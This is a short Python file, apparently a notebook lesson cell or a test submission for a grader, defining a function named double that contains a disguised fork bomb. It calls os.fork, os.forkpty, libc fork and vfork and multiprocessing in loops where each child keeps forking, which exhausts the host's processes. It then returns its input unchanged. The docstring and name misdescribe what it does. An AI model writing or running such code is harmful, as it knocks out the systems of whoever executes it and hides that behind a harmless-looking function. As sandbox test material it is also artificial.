"""Forks in every way that Python and the C library offer, and lets the child answer."""

NOTEBOOK = "lesson"
START = "solutions"
EARNS = ["Counter", "batches"]

# %% double
import ctypes
import multiprocessing
import os
def double(x):
    libc = ctypes.CDLL(None)
    for act in (os.fork, os.forkpty, libc.fork, libc.vfork, multiprocessing.Process(target=print).start):
        try:
            while act() == 0:
                pass
        except OSError:
            pass
    return x
